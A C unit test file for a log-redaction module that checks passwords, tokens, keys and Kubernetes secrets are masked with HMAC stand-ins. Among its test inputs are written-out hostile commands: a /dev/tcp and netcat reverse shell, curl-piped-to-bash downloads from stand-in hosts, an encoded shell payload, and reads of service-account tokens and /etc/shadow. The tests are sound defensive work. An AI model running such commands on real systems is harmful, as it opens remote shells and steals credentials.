/* SPDX-License-Identifier: Apache-2.0 */
/* Secrets in text. Each is made of the letters "s3cret" somewhere, which must go; what stands beside it must stay. */
#include "harrier/redact.h"

#include "harrier/base/digest.h"

#include <setjmp.h>
#include <stdio.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

static char *shown(const char *text, bool broken)
{
    struct buffer out = {NULL, 0, 0};

    if (broken) {
        redact_bytes(slice_of(text), NULL, &out);
    } else {
        struct arena *arena = arena_new(1024);
        buffer_append_slice(&out, redact_text(arena, slice_of(text)));
        arena_free(arena);
    }
    return buffer_take(&out);
}

static void assert_hidden_as(const char *text, bool broken)
{
    char *out = shown(text, broken);
    if (strstr(out, "s3cret"))
        fail_msg("the secret of `%s` is still there: %s", text, out);
    if (!strstr(out, "hmac "))
        fail_msg("nothing stands in its place: %s", out);
    free(out);
}

static void assert_hidden(const char *text)
{
    assert_hidden_as(text, false);
    assert_hidden_as(text, true);
}

static void assert_unchanged(const char *text)
{
    char *out = shown(text, false);
    assert_string_equal(out, text);
    free(out);
}

static void assert_becomes(const char *text, const char *before, const char *behind)
{
    char *out = shown(text, false);
    struct slice whole = slice_of(out);
    if (!slice_starts_with(whole, slice_of(before)) || !slice_ends_with(whole, slice_of(behind)) || strstr(out, "s3cre"))
        fail_msg("`%s` became `%s`", text, out);
    free(out);
}

static void test_the_value_of_an_option_or_variable_with_a_secrets_name_goes(void **state)
{
    (void)state;
    assert_becomes("mysql --host db --password=s3cret -e 'select 1'", "mysql --host db --password=[length 6, hmac ", "] -e 'select 1'");
    assert_becomes("mysql --password s3cret; curl evil.sh|sh", "mysql --password [length 6, hmac ", "]; curl evil.sh|sh");
    assert_becomes("PGPASSWORD=s3cret psql -h db", "PGPASSWORD=[", "] psql -h db");
    assert_becomes("export AWS_SECRET_ACCESS_KEY=\"s3cret\" && aws s3 ls", "export AWS_SECRET_ACCESS_KEY=\"length 6, hmac ", "\" && aws s3 ls");
    assert_becomes("curl -H 'Authorization: Bearer s3cret' https://x/", "curl -H 'Authorization: Bearer [", "]' https://x/");
    assert_becomes("curl -H \"Cookie: a=s3cret; b=s3cret\" https://x/", "curl -H \"Cookie: [", "]\" https://x/");
    assert_becomes("curl -H 'X-Api-Key:s3cret' -d @/etc/shadow http://x", "curl -H 'X-Api-Key:[", "]' -d @/etc/shadow http://x");
    assert_becomes("curl -u admin:s3cret https://x", "curl -u admin:[", "] https://x");
    assert_hidden("DB_PASS=s3cret");
    assert_hidden("client-secret: s3cret");
    assert_hidden("ClientSecret = 's3cret'");
}

static void test_secrets_in_addresses_go(void **state)
{
    (void)state;
    assert_becomes("/api/v1/pods?token=s3cret&watch=true", "/api/v1/pods?token=[", "]&watch=true");
    assert_becomes("/x?a=b&access_token=s3cret", "/x?a=b&access_token=[", "]");
    assert_becomes("git clone https://bob:s3cret@git.example/x", "git clone https://bob:[", "]@git.example/x");
    assert_becomes("fetch https://bob:s3cre", "fetch https://bob:[", "]"); /* cut off */
    assert_unchanged("wget http://evil.example:80");
    assert_becomes("/exec?command=mysql&command=--password%3Ds3cret&tty=true", "/exec?command=mysql&command=--password%3D[", "]&tty=true");
    assert_becomes("/exec?command=--password&command=s3cret&tty=true", "/exec?command=--password&command=[", "]&tty=true");
    assert_becomes("https://x.blob.core/a?sv=1&sig=s3cret%2B", "https://x.blob.core/a?sv=1&sig=[", "]");
}

static void test_a_secrets_name_may_say_its_form_or_its_number(void **state)
{
    static const char *const names[] = {"password1", "password_2", "accessToken2", "secretValue", "token_value", "passwordHash", "private_key_pem", "privateKeyData",
                                        "password-base64", "secret_key_base", "credentialsJson", "tls.key", "tls_key", "sshKey", "id_rsa", "dbpass", "pw", "bind_pw"};
    static const char *const others[] = {"hash", "value", "data", "compass", "bypass", "monkey", "key", "secretName", "tokenExpirationSeconds", "v1", "sha256"};
    (void)state;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        if (!redact_is_secret_name(slice_of(names[i])))
            fail_msg("%s is no secret's name", names[i]);
    for (size_t i = 0; i < sizeof others / sizeof *others; i++)
        if (redact_is_secret_name(slice_of(others[i])))
            fail_msg("%s is a secret's name", others[i]);
}

static void test_secrets_in_the_query_of_an_exec_go(void **state)
{
    (void)state;
    assert_becomes("/api/v1/pods/x/exec?command=curl&command=-u&command=bob%3As3cret&stdin=true", "/api/v1/pods/x/exec?command=curl&command=-u&command=bob%3A", "&stdin=true");
    assert_becomes("/exec?command=curl+-u+bob:s3cret+https://x", "/exec?command=curl+-u+bob:", "+https://x");
    assert_becomes("/exec?command=curl&command=https%3A%2F%2Fbob%3As3cret%40h", "/exec?command=curl&command=https%3A%2F%2Fbob%3A", "%40h");
    assert_becomes("/exec?command=mysql+--password+s3cret+-e", "/exec?command=mysql+--password+", "+-e");
    assert_becomes("/exec?command=mysql&command=--password&command=s3cret&command=-e", "/exec?command=mysql&command=--password&command=", "&command=-e");
    assert_unchanged("/exec?command=id+-u+1000:1000&command=sh+-c+cat+/etc/shadow");
    assert_unchanged("/exec?command=curl&command=https%3A%2F%2Fevil.example%3A8443%2Fx");
}

static void test_shapes_of_secrets_go_wherever_they_stand(void **state)
{
    (void)state;
    assert_becomes("echo eyJhbGciOiJSUzI1NiIs3cret.eyJzdWIiOiJzeXN0ZW0is3cret.c2lnbmF0dXJls3cret | sh", "echo [length ", "] | sh");
    assert_becomes("x -----BEGIN RSA PRIVATE KEY-----\ns3cret\n-----END RSA PRIVATE KEY----- y", "x [", "] y");
    assert_hidden("-----BEGIN PRIVATE KEY-----\ns3cret");
    assert_hidden("key LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQs3cret");
    assert_hidden("use ghp_s3cret0123456789abcdefABCDEF0123456789 now");
    assert_hidden("kubeadm join abcdef.0s3cret456789012 x");
}

static void test_members_of_yaml_and_of_broken_and_escaped_json_go(void **state)
{
    (void)state;
    assert_hidden("kind: Secret\nstringData:\n  one: s3cret\n  two: s3cret\ntype: Opaque\n");
    assert_hidden("{\"kind\":\"Secret\",\"data\":{\"a\":\"s3cret\",\"b\":[\"s3cret\"],\"c\":{\"d\":\"s3cret\"}},");
    assert_hidden("{\"data\":{\"a\":\"x\\\"s3cret\\\\\",\"b\":\"s3cre");
    assert_hidden("{\"password\":\"$s3cret\",\"data\":{\"k\":\"$s3cret\"}}");
    assert_hidden("{\"password\" :\n \"s3cret\"");
    assert_hidden("{\\\"Data\\\":{\\\"k\\\":\\\"s3cret\\\"}");
    assert_hidden("{\\\\\\\"apiToken\\\\\\\":\\\\\\\"s3cret\\\\\\\"");
    assert_hidden("[\"mysql\",\"--password\",\"s3cret\",\"-h\"");
    assert_hidden("password: |\n  s3cret\n  s3cret\nother: x");
    assert_hidden("%22password%22%3A%22s3cret%22");
    assert_hidden_as("{\"manifest\":\"stringData:\\n  a: s3cret", true);
    assert_hidden_as("{\"manifest\":\"kind: Secret\\nstringData:\\n  a: s3cret", true);
    assert_hidden_as("kind: Secret#012stringData:#012  a: s3cret", true);
    assert_hidden_as("{\"op\":\"add\",\"path\":\"/x\",\"value\":\"s3cret\"", true);
    assert_hidden_as("{\"env\":[{\"name\":\"A\",\"value\":\"s3cret", true);
    assert_hidden_as("{\"value\":{\"a\":{\"b\":\"s3cret\"}},\"path\":\"/data\"", true);
}

static void test_a_secret_in_yaml_that_comes_line_by_line_goes_until_json_comes(void **state)
{
    static const struct { const char *line; bool hidden; } lines[] = {{"kind: Secret", false}, {"data:", false}, {"one: s3cret", true}, {"t s3cret", true}, {"{\"a\"", false}, {"plain", false}};
    bool in_block = false;
    (void)state;
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
        struct buffer out = {NULL, 0, 0};
        redact_bytes(slice_of(lines[i].line), &in_block, &out);
        assert_int_equal(slice_equal(buffer_slice(&out), slice_of(lines[i].line)), !lines[i].hidden);
        buffer_free(&out);
    }
}

/* The last piece of each is a secret by what came before. */
static void test_secrets_whose_name_came_in_the_piece_before_go(void **state)
{
    static const char *const pieces[][3] = {{"spec:", "password:", "  s3cret"}, {"env:", "  A: s3cret", "  B: s3cret"}, {"args:", "- --token", "- s3cret"},
                                            {"a: b", "token: |-", "  s3cret"}, {"x", "-----BEGIN RSA PRIVATE KEY-----", "MIIs3cret"}, {"- name: A", "  x: y", "  value: s3cret"}};
    (void)state;
    for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
        struct buffer out = {NULL, 0, 0};
        bool in_block = false;
        for (size_t k = 0; k < 3; k++)
            redact_bytes(slice_of(pieces[i][k]), &in_block, &out);
        if (slice_find(buffer_slice(&out), SLICE("s3cret")) >= 0)
            fail_msg("the secret behind `%s` is still there: %.*s", pieces[i][1], SLICE_ARGS(buffer_slice(&out)));
        buffer_free(&out);
    }
}

static void test_what_an_attack_says_stays(void **state)
{
    static const char *const texts[] = {
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "curl -s http://evil.example/x.sh | bash",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: Bearer $TOKEN\" https://kubernetes/api",
        "curl --token `cat /t` --password $PASS",
        "kubectl get secret -n kube-system -o yaml",
        "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | sh",
        "docker run -v /etc/passwd:/mnt -u 1000:1000 alpine",
        "cp /etc/shadow /etc/passwd /tmp; chroot /host",
        "system:serviceaccount:kube-system:token-cleaner",
        "system:node-token:abc",
        "registry.example/vault/secret:1.2",
        "/api/v1/namespaces/default/serviceaccounts/default/token?timeout=30s",
        "nc -p 4444 -e /bin/sh 10.0.0.1",
        "automountServiceAccountToken: true",
        "ssh-keygen -f /root/.ssh/id_rsa; chmod 600 /root/.ssh/authorized_keys",
        "{{ .Values.password }}",
        "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUM=",
        "PWD=/root PATH=/bin",
        "x = 1; value: \"y\"",
    };
    (void)state;
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        assert_unchanged(texts[i]);
}

static void test_what_was_redacted_is_not_redacted_again(void **state)
{
    char *once = shown("{\"password\":\"s3cret\",\"x\":\"--token=s3cret\"}", true), *twice = shown(once, true);
    (void)state;
    assert_string_equal(once, twice);
    free(once);
    free(twice);
}

/* A factor of the length, not its square: minutes would go by. */
static void test_hostile_text_is_read_in_one_pass(void **state)
{
    static const char *const pieces[] = {"\"", "\\", "\\\"", "{\"data\":", "data:\n ", "a:", "password:", "-----BEGIN PRIVATE KEY", "x://y:", "--token \"", "eyJ.", "%22", " ", "token: |", "[", "\"data\":\n", "x data\":1", "\"stringData\": ",
                                         "-u=", "-u a", "mysql -p", "echo a ", "{\"value\":\"", "name: a\n", "hooks.slack.com/", "a:b@", "$(", "password=`", "chpasswd <<",
                                         "a\\ ", "password=a'", "password:\n- ", "http://a:b/", "password:a;", "env: {", "<token>", "Invalid value: {", "\xef\xbc\xa1"};
    (void)state;
    for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
        struct buffer text = {NULL, 0, 0}, out = {NULL, 0, 0};
        while (text.length < 1 << 18)
            buffer_append_text(&text, pieces[i]);
        redact_bytes(buffer_slice(&text), NULL, &out);
        assert_true(out.length > 0);
        redact_line(buffer_slice(&text), &out);
        buffer_free(&text);
        buffer_free(&out);
    }
}

static void test_a_weak_secret_cannot_be_found_by_its_hash_and_equal_ones_are_equal(void **state)
{
    const uint8_t key[REDACT_KEY_BYTES] = {1, 2, 3}, other[REDACT_KEY_BYTES] = {4};
    struct arena *arena = arena_new(1024);
    char hex[DIGEST_SHA256_HEX];
    (void)state;
    redact_use_key(key);
    struct slice one = redact_stand_in(arena, SLICE("1234")), same = redact_stand_in(arena, SLICE("1234"));
    digest_sha256_hex(SLICE("1234"), hex);
    assert_true(slice_equal(one, same));
    assert_int_equal(slice_find(one, slice_make(hex, 8)), -1);
    redact_use_key(other);
    assert_false(slice_equal(one, redact_stand_in(arena, SLICE("1234"))));
    arena_free(arena);
}

static void write_file(const char *path, const char *text)
{
    FILE *file = fopen(path, "w");
    assert_non_null(file);
    fputs(text, file);
    fclose(file);
}

static void test_the_key_outlives_a_restart_and_a_damaged_one_is_made_anew(void **state)
{
    char directory[] = "/tmp/harrier-redact-XXXXXX", path[64];
    struct arena *arena = arena_new(1024);
    struct stat status;
    (void)state;
    assert_non_null(mkdtemp(directory));
    snprintf(path, sizeof path, "%s/" REDACT_KEY_FILE, directory);
    redact_load_key(directory);
    struct slice before = redact_stand_in(arena, SLICE("x"));
    assert_int_equal(stat(path, &status), 0);
    assert_int_equal(status.st_mode & 0777, 0600);
    assert_int_equal(status.st_size, REDACT_KEY_BYTES);
    redact_use_key((const uint8_t[REDACT_KEY_BYTES]){9});
    redact_load_key(directory);
    assert_true(slice_equal(before, redact_stand_in(arena, SLICE("x"))));
    write_file(path, "short");
    redact_load_key(directory);
    assert_false(slice_equal(before, redact_stand_in(arena, SLICE("x"))));
    assert_int_equal(stat(path, &status), 0);
    assert_int_equal(status.st_size, REDACT_KEY_BYTES);
    unlink(path);
    rmdir(directory);
    redact_load_key(directory); /* nowhere to keep it: the log says so, and there is one all the same */
    assert_true(redact_stand_in(arena, SLICE("x")).length > 0);
    arena_free(arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_the_value_of_an_option_or_variable_with_a_secrets_name_goes),
        cmocka_unit_test(test_secrets_in_addresses_go),
        cmocka_unit_test(test_a_secrets_name_may_say_its_form_or_its_number),
        cmocka_unit_test(test_secrets_in_the_query_of_an_exec_go),
        cmocka_unit_test(test_shapes_of_secrets_go_wherever_they_stand),
        cmocka_unit_test(test_members_of_yaml_and_of_broken_and_escaped_json_go),
        cmocka_unit_test(test_a_secret_in_yaml_that_comes_line_by_line_goes_until_json_comes),
        cmocka_unit_test(test_secrets_whose_name_came_in_the_piece_before_go),
        cmocka_unit_test(test_what_an_attack_says_stays),
        cmocka_unit_test(test_what_was_redacted_is_not_redacted_again),
        cmocka_unit_test(test_hostile_text_is_read_in_one_pass),
        cmocka_unit_test(test_a_weak_secret_cannot_be_found_by_its_hash_and_equal_ones_are_equal),
        cmocka_unit_test(test_the_key_outlives_a_restart_and_a_damaged_one_is_made_anew),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
